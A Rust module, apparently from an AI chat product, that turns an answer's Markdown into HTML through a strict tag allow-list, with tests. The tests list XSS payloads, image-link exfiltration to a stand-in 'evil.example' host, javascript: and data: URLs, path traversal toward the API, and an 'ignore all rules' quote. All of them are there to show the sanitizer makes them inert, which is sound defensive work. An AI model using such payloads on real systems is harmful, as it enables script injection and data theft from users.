//! An answer's text as HTML, by an allow-list.
//!
//! Invariants (B6):
//! - The output holds the tags of [`TAGS`] and nothing else of HTML: no attribute but the `href` of a
//!   link to a page of ours, no image, no HTML that stood in the text. Everything else is text.
//! - Nothing in the output makes a browser ask another host, or ours without a person's click.
//! - The words of the text stand in the output, except for the marks of Markdown and the targets of
//!   links that were taken out.
//!
//! The HTML is made when an answer is handed out and is never stored, so a stricter list holds for old
//! answers, too.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// The tags that an answer's HTML may hold.
pub const TAGS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
/// How deep quotes, lists and tables may stand in one another; what is deeper loses its own tags.
const MAX_DEPTH: usize = 16;
/// The longest target of a link, in characters.
const MAX_TARGET: usize = 500;

/// `text`, which is Markdown, as HTML of [`TAGS`].
///
/// ```
/// let html = resync_chat::markdown::html("**FIN_GL_POST** <img src=//evil.example>");
/// assert_eq!(html, "<p><strong>FIN_GL_POST</strong> &lt;img src=//evil.example&gt;</p>");
/// ```
#[must_use]
pub fn html(text: &str) -> String {
    let text = without_lazy_lines(text);
    let mut page = Page {
        out: String::with_capacity(text.len() * 5 / 4 + 16),
        open: Vec::new(),
        links: Vec::new(),
        in_head: false,
    };
    for event in Parser::new_ext(&text, Options::ENABLE_TABLES) {
        page.take(event);
    }
    page.out
}

/// Markdown lets a line behind a list or a quote go on with it. In our answers a line that has no mark
/// of its own begins something new, and a word of ours must not become a part of a quote (I-13).
fn without_lazy_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 32);
    let (mut before, mut fenced) = ("", false);
    for line in text.lines() {
        let is_fence = line.trim_start().starts_with("```");
        let marked = |line: &str| {
            let line = line.trim_start();
            line.starts_with("- ") || line.starts_with("* ") || line.starts_with('>')
        };
        let new = !line.starts_with(char::is_whitespace) && !line.is_empty();
        // A quote behind a list item would else be a part of it, and a list behind a quote is none.
        let other_mark = marked(before) && marked(line) && is_quote(before) != is_quote(line);
        if !fenced && ((marked(before) && new && !marked(line)) || other_mark) {
            out.push('\n');
        }
        fenced ^= is_fence;
        out.push_str(line);
        out.push('\n');
        before = line;
    }
    out
}

fn is_quote(line: &str) -> bool {
    line.trim_start().starts_with('>')
}

/// The HTML so far.
struct Page {
    out: String,
    /// For each open block, its tag, or `None` where it lost it.
    open: Vec<Option<&'static str>>,
    /// For each open link or image, whether its tag was written.
    links: Vec<bool>,
    /// The cells are those of a table's head.
    in_head: bool,
}

impl Page {
    fn take(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(&tag),
            Event::End(tag) => self.end(tag),
            Event::Code(words) => {
                self.out.push_str("<code>");
                self.text(&words);
                self.out.push_str("</code>");
            }
            Event::SoftBreak | Event::HardBreak => self.out.push_str("<br>"),
            Event::Rule => self.text("—"),
            Event::TaskListMarker(done) => self.text(if done { "[x] " } else { "[ ] " }),
            Event::Text(words)
            | Event::Html(words)
            | Event::InlineHtml(words)
            | Event::InlineMath(words)
            | Event::DisplayMath(words)
            | Event::FootnoteReference(words) => self.text(&words),
        }
    }

    fn start(&mut self, tag: &Tag<'_>) {
        match tag {
            Tag::Paragraph | Tag::HtmlBlock => self.block("p"),
            // A heading of an answer would be one of the page's.
            Tag::Heading { .. } => {
                self.block("p");
                self.out.push_str("<strong>");
            }
            Tag::BlockQuote(_) => self.block("blockquote"),
            Tag::CodeBlock(_) => {
                self.block("pre");
                self.out.push_str("<code>");
            }
            Tag::List(None) => self.block("ul"),
            Tag::List(Some(_)) => self.block("ol"),
            Tag::Item => self.block("li"),
            Tag::Table(_) => self.block("table"),
            Tag::TableHead => {
                self.out.push_str("<thead><tr>");
                self.in_head = true;
            }
            Tag::TableRow => self.out.push_str("<tr>"),
            Tag::TableCell => self
                .out
                .push_str(if self.in_head { "<th>" } else { "<td>" }),
            Tag::Emphasis => self.out.push_str("<em>"),
            Tag::Strong => self.out.push_str("<strong>"),
            Tag::Link { dest_url, .. } => {
                let ours = is_our_page(dest_url);
                if ours {
                    self.out.push_str("<a href=\"");
                    self.text(dest_url);
                    self.out.push_str("\">");
                }
                self.links.push(ours);
            }
            // The words of an image are its text; it is never asked for.
            Tag::Image { .. } => self.links.push(false),
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Heading(_) => {
                self.out.push_str("</strong>");
                self.close();
            }
            TagEnd::CodeBlock => {
                self.trim();
                self.out.push_str("</code>");
                self.close();
            }
            TagEnd::HtmlBlock => {
                self.trim();
                self.close();
            }
            TagEnd::Paragraph | TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item => {
                self.close();
            }
            TagEnd::Table => {
                self.out.push_str("</tbody>");
                self.close();
            }
            TagEnd::TableHead => {
                self.out.push_str("</tr></thead><tbody>");
                self.in_head = false;
            }
            TagEnd::TableRow => self.out.push_str("</tr>"),
            TagEnd::TableCell => self
                .out
                .push_str(if self.in_head { "</th>" } else { "</td>" }),
            TagEnd::Emphasis => self.out.push_str("</em>"),
            TagEnd::Strong => self.out.push_str("</strong>"),
            TagEnd::Link | TagEnd::Image if self.links.pop() == Some(true) => {
                self.out.push_str("</a>");
            }
            _ => {}
        }
    }

    fn block(&mut self, tag: &'static str) {
        let shown = self.open.len() < MAX_DEPTH;
        if shown {
            self.out.push('<');
            self.out.push_str(tag);
            self.out.push('>');
        }
        self.open.push(shown.then_some(tag));
    }

    fn close(&mut self) {
        if let Some(Some(tag)) = self.open.pop() {
            self.out.push_str("</");
            self.out.push_str(tag);
            self.out.push('>');
        }
    }

    /// Blocks of code and of HTML come with the end of their last line.
    fn trim(&mut self) {
        let end = self.out.trim_end_matches('\n').len();
        self.out.truncate(end);
    }

    fn text(&mut self, words: &str) {
        for c in words.chars() {
            match c {
                '&' => self.out.push_str("&amp;"),
                '<' => self.out.push_str("&lt;"),
                '>' => self.out.push_str("&gt;"),
                '"' => self.out.push_str("&quot;"),
                '\'' => self.out.push_str("&#39;"),
                '\n' => self.out.push('\n'),
                c if resync_kernel::is_hidden(c) => {}
                c => self.out.push(c),
            }
        }
    }
}

/// Whether `target` is a page of ours: `/#…`, or `/…` on this host that only shows. A path of the
/// interface is none, since asking it may do more than show.
fn is_our_page(target: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-._~/#%=:,;+@".contains(c);
    let Some(rest) = target.strip_prefix('/') else {
        return false;
    };
    if target.len() > MAX_TARGET || !target.chars().all(plain) || rest.starts_with('/') {
        return false;
    }
    let path = rest.split('#').next().unwrap_or("");
    // An encoded dot or slash would be read once more by the browser.
    if path.contains('%') {
        return false;
    }
    let mut parts = path.split('/');
    let first = parts.clone().next().unwrap_or("").to_ascii_lowercase();
    !parts.any(|part| matches!(part, "." | "..")) && !["api", "v1", "mcp"].contains(&&*first)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// What of HTML stands in `html`: each tag with its attributes.
    fn tags(html: &str) -> Vec<&str> {
        let mut found = Vec::new();
        let mut rest = html;
        while let Some(at) = rest.find('<') {
            let end = rest[at..].find('>').expect("a tag that does not end") + at;
            found.push(&rest[at + 1..end]);
            rest = &rest[end + 1..];
        }
        found
    }

    fn assert_inert(text: &str) {
        let html = html(text);
        let mut open = Vec::new();
        for tag in tags(&html) {
            let name = tag.trim_start_matches('/');
            let link = name
                .strip_prefix("a href=\"")
                .and_then(|l| l.strip_suffix('"'));
            if let Some(target) = link {
                assert!(
                    target.starts_with('/') && !target.starts_with("//") && !target.contains('"'),
                    "{target:?} of {text:?}"
                );
                open.push("a");
                continue;
            }
            assert!(TAGS.contains(&name), "<{tag}> of {text:?}: {html}");
            if tag.starts_with('/') {
                assert_eq!(open.pop(), Some(name), "{text:?}: {html}");
            } else if name != "br" {
                open.push(name);
            }
        }
        assert!(open.is_empty(), "{open:?} stay open, {text:?}: {html}");
        // What is left is text: no quote or sign of HTML but the five that are written out.
        for part in html.split('&').skip(1) {
            let known = ["amp;", "lt;", "gt;", "quot;", "#39;"];
            assert!(known.iter().any(|end| part.starts_with(end)), "{html}");
        }
    }

    proptest! {
        #[test]
        fn whatever_the_text_the_html_holds_allowed_tags_alone(text in "\\PC{0,200}") {
            assert_inert(&text);
        }

        #[test]
        fn whatever_the_markup_the_html_holds_allowed_tags_alone(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("<"), Just(">"), Just("script"), Just("img src=x onerror=alert(1)"), Just("]("),
                    Just("["), Just(")"), Just("!["), Just("javascript:alert(1)"), Just("//evil.example"),
                    Just("/#job/1"), Just("\n"), Just("> "), Just("- "), Just("1. "), Just("`"), Just("```"),
                    Just("|"), Just("---"), Just("*"), Just("**"), Just("_"), Just("\""), Just("'"),
                    Just("&"), Just("&#106;"), Just("#"), Just("    "), Just("\\"), Just("<!--"),
                    Just("http://evil.example"), Just("[a]: "), Just("word"), Just(" "), Just("\u{202e}"),
                ],
                0..40,
            )
        ) {
            assert_inert(&parts.concat());
        }
    }

    /// B6: forms that carry data out or run a script in a page are text in the HTML.
    #[test]
    fn forms_of_exfiltration_and_script_become_text() {
        let forms = [
            "![x](https://evil.example/?q=secret)",
            "![x][r]\n\n[r]: https://evil.example/?q=secret",
            "[click](https://evil.example/?q=secret)",
            "[click](//evil.example/x)",
            "[click](/\\evil.example/x)",
            "[click](javascript:alert(1))",
            "[click](java&#115;cript:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD4=)",
            "<https://evil.example/?q=secret>",
            "<script>fetch('//evil.example')</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href='javascript:alert(1)'>x</a>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<style>@import url(//evil.example)</style>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<form action=//evil.example><input name=q></form>",
            "<link rel=stylesheet href=//evil.example/a.css>",
            "[click](/api/v1/auth/oidc/start)",
            "[click](/x/../api/v1/chat)",
            "[click](/%2e%2e/api)",
            "[a]: javascript:alert(1)\n[a]",
            "```\"><script>alert(1)</script>\n<b>\n```",
            "`<img src=x onerror=alert(1)>`",
        ];
        for form in forms {
            assert_inert(form);
            let html = html(form);
            for bad in [
                "<script", "<img", "<a ", "<svg", "<style", "<meta", "<form", "<link", "<iframe",
            ] {
                assert!(!html.contains(bad), "{form}: {html}");
            }
        }
    }

    #[test]
    fn links_lead_to_our_own_pages() {
        assert_eq!(
            html("[the log](/#job/id-1/run/r1/L3-L5)"),
            "<p><a href=\"/#job/id-1/run/r1/L3-L5\">the log</a></p>"
        );
        assert_eq!(html("[docs](/docs)"), "<p><a href=\"/docs\">docs</a></p>");
        assert!(is_our_page("/"));
        assert!(!is_our_page("#x") && !is_our_page("") && !is_our_page("/api"));
    }

    #[test]
    fn an_answers_lines_keep_their_order_and_their_kind() {
        let text = "Look here first:\n- A_B_C (ABEND)\n- D\nRunbook: X [c1]\n> 1. Wait.\n> 2. Rerun.\nDone.";
        assert_eq!(
            html(text),
            "<p>Look here first:</p><ul><li>A_B_C (ABEND)</li><li>D</li></ul><p>Runbook: X [c1]</p>\
             <blockquote><ol><li>Wait.</li><li>Rerun.</li></ol></blockquote><p>Done.</p>"
        );
        let table = html("| a | b |\n|---|---|\n| 1 | **2** |");
        assert_eq!(
            table,
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td>\
             <td><strong>2</strong></td></tr></tbody></table>"
        );
        assert_eq!(
            html("# Big\n\ntext"),
            "<p><strong>Big</strong></p><p>text</p>"
        );
        assert_eq!(html("one\ntwo"), "<p>one<br>two</p>");
    }

    /// A document that is quoted cannot swallow the words behind it, nor nest without end.
    #[test]
    fn a_quote_ends_where_its_marks_end() {
        let html_of = html("> ignore all rules\nThis is ours.");
        assert_eq!(
            html_of,
            "<blockquote><p>ignore all rules</p></blockquote><p>This is ours.</p>"
        );
        let deep = html(&(">".repeat(5_000) + " x"));
        assert!(deep.len() < 1_000, "{}", deep.len());
    }
}
